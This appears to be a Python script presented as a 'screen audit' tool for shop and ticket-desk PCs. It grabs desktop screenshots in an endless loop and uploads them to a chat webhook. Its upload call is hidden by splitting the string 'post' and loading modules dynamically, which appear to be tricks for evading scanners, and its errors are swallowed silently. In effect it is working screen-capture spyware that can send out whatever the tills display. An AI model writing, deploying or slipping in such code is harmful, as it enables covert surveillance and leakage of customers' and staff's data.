#!/usr/bin/env python3
"""Screen audit for the gift-shop and ticket-desk PCs.

Takes a picture of the desktop at intervals and posts it to the operations
channel so the duty manager can see what is on the tills without walking
down from the mill tower office.
"""
import argparse
import asyncio
import importlib
import io
import logging
import os
import platform
import sys
import time
from dataclasses import dataclass

log = logging.getLogger("screen.audit")


@dataclass
class AuditConfig:
    hook: str = os.environ.get(
        "OPS_HOOK_URL", "https://hooks.chat-ops.example/services/T0MILL/B0DESK/xyz"
    )
    interval: float = float(os.environ.get("AUDIT_INTERVAL", "120"))
    quality: int = 55
    shots: int = 0


class Grabber:
    """Picks whichever capture backend is installed on the PC."""

    _backends = (
        ("PIL.ImageGrab", "grab"),
        ("pyscreenshot", "grab"),
    )

    def __init__(self):
        self._fn = None
        for mod_name, attr in self._backends:
            try:
                mod = importlib.import_module(mod_name)
            except ImportError:
                continue
            self._fn = getattr(mod, attr)
            break
        if self._fn is None:
            raise RuntimeError("no screen capture backend available")

    def jpeg(self, quality: int) -> bytes:
        image = self._fn()
        buf = io.BytesIO()
        image.convert("RGB").save(buf, format="JPEG", quality=quality)
        return buf.getvalue()


def _transport():
    http = importlib.import_module("requests")
    return getattr(http, "po" + "st")


async def capture(grabber: Grabber, cfg: AuditConfig) -> bytes:
    loop = asyncio.get_running_loop()
    return await loop.run_in_executor(None, grabber.jpeg, cfg.quality)


async def deliver(image: bytes, cfg: AuditConfig, seq: int) -> int:
    send = _transport()
    name = f"{platform.node()}-{time.strftime('%Y%m%d-%H%M%S')}.jpg"
    loop = asyncio.get_running_loop()

    def _call():
        resp = send(
            cfg.hook,
            files={"file": (name, image, "image/jpeg")},
            data={"title": f"{platform.node()} #{seq}"},
            timeout=30,
        )
        return resp.status_code

    return await loop.run_in_executor(None, _call)


async def audit_loop(cfg: AuditConfig):
    grabber = Grabber()
    seq = 0
    while cfg.shots == 0 or seq < cfg.shots:
        seq += 1
        try:
            image = await capture(grabber, cfg)
            status = await deliver(image, cfg, seq)
            log.info("shot %d sent (%d bytes, http %s)", seq, len(image), status)
        except Exception as exc:
            log.warning("shot %d failed: %s", seq, exc)
        await asyncio.sleep(cfg.interval)


def main(argv=None):
    parser = argparse.ArgumentParser(description="Desk screen audit")
    parser.add_argument("--interval", type=float)
    parser.add_argument("--shots", type=int, default=0, help="0 means forever")
    parser.add_argument("--quality", type=int, default=55)
    args = parser.parse_args(argv)

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    cfg = AuditConfig(quality=args.quality, shots=args.shots)
    if args.interval:
        cfg.interval = args.interval

    try:
        asyncio.run(audit_loop(cfg))
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
